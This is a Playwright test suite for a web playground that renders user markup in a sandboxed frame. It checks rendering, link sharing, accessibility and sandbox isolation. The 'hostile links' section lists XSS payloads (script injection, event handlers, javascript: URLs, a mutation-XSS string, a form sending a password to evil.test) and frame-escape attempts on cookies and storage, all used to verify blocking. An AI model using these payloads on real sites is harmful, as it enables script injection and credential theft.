/** The playground: markup is edited, shared by a link, and cannot leave its frame. */
import type { Frame, Page } from 'playwright/test';
import { axeViolationsOfDocument } from './support/axe.ts';
import { atRest } from './support/rest.ts';
import { expect, test } from './support/suite.ts';

const ADDRESS = '/catalogue/playground';
const EVIL = 'https://evil.test/';
/** The script in foreign markup. All frames have the function. */
const RUN = 'reportExecution()';

const state = (page: Page) => page.locator('#state');
const markup = (page: Page) => page.getByRole('textbox', { name: 'Markup' });
const content = (page: Page) => page.frameLocator('#frame');

const frameOf = async (page: Page): Promise<Frame> => (await (await page.$('#frame'))!.contentFrame())!;

/** Opens a link to this markup. An element at its end shows that all of it has been read. */
const openLink = async (page: Page, text: string): Promise<void> => {
  const whole = `${text}<gate-number value="1"></gate-number>`;
  await page.goto(`${ADDRESS}#markup=${encodeURIComponent(whole)}`);
  await expect(state(page)).toContainText('gate-number: shown');
};

test('markup that is typed shows in the page, and the copied link brings it back', async ({ page, context }) => {
  await page.goto(ADDRESS);
  await expect(state(page)).toHaveText('gate-kyc-bar: shown');
  await expect(markup(page)).toHaveValue('<gate-kyc-bar></gate-kyc-bar>');
  await markup(page).fill('<h1>Prices</h1>\n<gate-number value="1234.5" precision="2"></gate-number>');
  await expect(content(page).getByRole('heading', { name: 'Prices' })).toBeVisible();
  await expect(content(page).locator('gate-number')).toContainText('1,234.5');
  await page.getByLabel('Language').selectOption('de');
  await expect(content(page).locator('gate-number')).toContainText('1.234,5');

  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.getByRole('button', { name: 'Copy link' }).click();
  const link = await page.evaluate(() => navigator.clipboard.readText());
  const other = await context.newPage();
  await other.goto(link);
  await expect(content(other).locator('gate-number')).toContainText('1.234,5');
  await expect(markup(other)).toHaveValue(/Prices/);
  await expect(other.getByLabel('Language')).toHaveValue('de');
});

test('the situation decides what shows, and the state names the reason', async ({ page }) => {
  await page.goto(ADDRESS);
  await expect(state(page)).toHaveText('gate-kyc-bar: shown');
  await page.getByLabel('API').selectOption('offline');
  await expect(state(page)).toHaveText('gate-kyc-bar: hidden (the user is known)');
  await page.getByLabel('API').selectOption('slow');
  await expect(state(page)).toHaveText('gate-kyc-bar: shown');
  await page.getByLabel('User').selectOption('visitor');
  await expect(state(page)).toHaveText('gate-kyc-bar: hidden (signed in)');
  await page.getByLabel('Element').selectOption('gate-compliance-modal');
  await page.getByLabel('Answers').selectOption('LTW');
  await markup(page).fill('');
  await expect(state(page)).toHaveText('no element');
  await page.getByRole('button', { name: 'Insert the element' }).click();
  await expect(markup(page)).toHaveValue('<gate-compliance-modal></gate-compliance-modal>');
  await expect(state(page)).toHaveText('gate-compliance-modal: shown');
  await expect(page.locator('#log')).toContainText('"variant":"LTW"');
  await expect(page).toHaveURL(/scene=LTW/);
});

const HOSTILE: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${encodeURIComponent(RUN)}"></script>`,
  `<script type="module" src="${EVIL}a.js"></script>`,
  `<img src="x" onerror='${RUN}'>`,
  `<svg onload='${RUN}'></svg><svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc='<script>${RUN}</script>'></iframe>`,
  `<iframe src='javascript:${RUN}'></iframe><object data="${EVIL}"></object><embed src="${EVIL}">`,
  `<template shadowrootmode="open"><script>${RUN}</script></template>`,
  `<div><template shadowrootmode="open"><img src=x onerror='${RUN}'></template></div>`,
  `<link rel="stylesheet" href="${EVIL}a.css"><style>@import "${EVIL}b.css"; body { background: url(${EVIL}c.png) }</style>`,
  `<meta http-equiv="refresh" content="0; url=${EVIL}">`,
  `<base href="${EVIL}"><img src="d.png">`,
  `<img src="${EVIL}e.png"><video src="${EVIL}f.mp4" autoplay></video>`,
  `</textarea></script><script>${RUN}</script>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<a id="go" href='javascript:${RUN}'>go</a>`,
  `<a id="go" href="${EVIL}" target="_top">go</a>`,
  `<a id="go" href="${EVIL}" target="_blank">go</a>`,
  `<a id="go" href="${EVIL}">go</a>`,
  `<a id="go" href="/qa/apply?login=signed-in">go</a>`,
  `<form action="${EVIL}"><input name="password" value="secret"><button id="go">go</button></form>`,
  `<button id="go" onclick='${RUN}'>go</button>`,
  `<gate-letter src='javascript:${RUN}'></gate-letter><gate-image src='javascript:${RUN}'></gate-image>`,
];

test.describe('hostile links', () => {
  // The policy reports what it blocks.
  test.use({ expectedLines: [/Content Security Policy|sandbox|Blocked|Refused|javascript:|could not|Unsafe|violat/i] });

  for (const [index, text] of HOSTILE.entries())
    test(`foreign markup runs nothing and leaves its frame alone: ${index + 1} ${text.slice(0, 40)}`, async ({
      page,
      context,
      quiet,
    }) => {
      const reached: string[] = [];
      await context.route(/evil\.test/, (route) => {
        reached.push(route.request().url());
        return route.fulfill({ body: 'reached', contentType: 'text/html' });
      });
      let executions = 0;
      await page.exposeBinding('reportExecution', () => void executions++);
      await openLink(page, text);
      const address = page.url();
      const target = content(page).locator('#go');
      if (await target.count()) await target.click({ noWaitAfter: true });
      await atRest(page);
      expect(executions).toBe(0);
      expect(reached).toEqual([]);
      // A link that the policy forbids leaves an error page in the frame.
      expect((await frameOf(page)).url()).toMatch(/\/catalogue\/playground\/frame\/|^chrome-error:/);
      expect(page.url()).toBe(address);
      expect(context.pages()).toHaveLength(1);
      await expect(page.getByRole('heading', { name: 'Playground' })).toBeVisible();
      // These are the blocked attempts.
      quiet.violations.length = 0;
    });

  test('a script inside the frame would reach nothing of the site', async ({ page }) => {
    await page.goto('/');
    await page.evaluate(() => {
      localStorage.setItem('secret', 'ours');
      document.cookie = 'secret=ours; path=/';
    });
    await openLink(page, '');
    const frame = await frameOf(page);
    const found = await frame.evaluate(async () => {
      const attempt = async (work: () => unknown): Promise<unknown> => {
        try {
          return await work();
        } catch {
          return 'refused';
        }
      };
      const own = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie')!;
      const areas = Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage') ?? { get: undefined };
      return {
        origin: self.origin,
        document: await attempt(() => parent.document.title),
        cookie: await attempt(() => own.get!.call(document) as string),
        storage: await attempt(() => (areas.get ? (areas.get.call(window) as Storage).getItem('secret') : 'refused')),
        page: await attempt(() => fetch('/qa').then((response) => response.text())),
        window: await attempt(() => (window.open('https://evil.test/') === null ? 'refused' : 'opened')),
        top: await attempt(() => {
          top!.location.href = 'https://evil.test/';
          return 'asked';
        }),
      };
    });
    expect(found).toEqual({
      origin: 'null',
      document: 'refused',
      cookie: 'refused',
      storage: 'refused',
      page: 'refused',
      window: 'refused',
      top: 'refused',
    });
    await expect(page).toHaveURL(/\/catalogue\/playground/);
  });

  test('the document of the frame shows nothing outside the playground', async ({ page, context, baseURL }) => {
    const address = `${baseURL}${ADDRESS}/frame/gate-kyc-bar`;
    await page.goto(address);
    await expect(page.locator('body')).toHaveText('This page shows markup in the frame of the playground only.');
    expect(await page.evaluate(() => self.origin)).toBe('null');

    await context.route('http://embedder.test/', (route) =>
      route.fulfill({ contentType: 'text/html', body: `<iframe src="${address}"></iframe>` }),
    );
    const blocked = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
    await page.goto('http://embedder.test/');
    await blocked;
  });
});

test('addresses with mistakes open the playground with its first choices', async ({ page }) => {
  for (const hash of ['from=gate-nothing&scene=x&theme=blue&lang=xx', '%E0%A4%A&markup', 'from=__proto__']) {
    await page.goto('about:blank');
    await page.goto(`${ADDRESS}#${hash}`);
    await expect(page.getByLabel('Element')).toHaveValue('gate-kyc-bar');
    await expect(state(page)).not.toHaveText('loading');
  }
  await page.goto('about:blank');
  await page.goto(`${ADDRESS}#markup=${'a'.repeat(25_000)}`);
  await expect(state(page)).toHaveText('no element');
  expect((await markup(page).inputValue()).length).toBe(20_000);
});

test.describe('with axe', () => {
  test.use({ bypassCSP: true, viewport: { width: 360, height: 740 } });

  for (const colorScheme of ['light', 'dark'] as const)
    test(`the playground fits 360 px, works by keyboard and passes axe in ${colorScheme}`, async ({ page }) => {
      await page.emulateMedia({ colorScheme });
      await page.goto(ADDRESS);
      await expect(state(page)).toHaveText('gate-kyc-bar: shown');
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
      await markup(page).focus();
      await page.keyboard.press('ControlOrMeta+A');
      await page.keyboard.type('<gate-number value="7"></gate-number>');
      // Tab leaves the field.
      await page.keyboard.press('Tab');
      await expect(page.getByRole('button', { name: 'Run' })).toBeFocused();
      await page.keyboard.press('Enter');
      await expect(state(page)).toHaveText('gate-number: shown');
      expect(await axeViolationsOfDocument(page)).toEqual([]);
    });
});
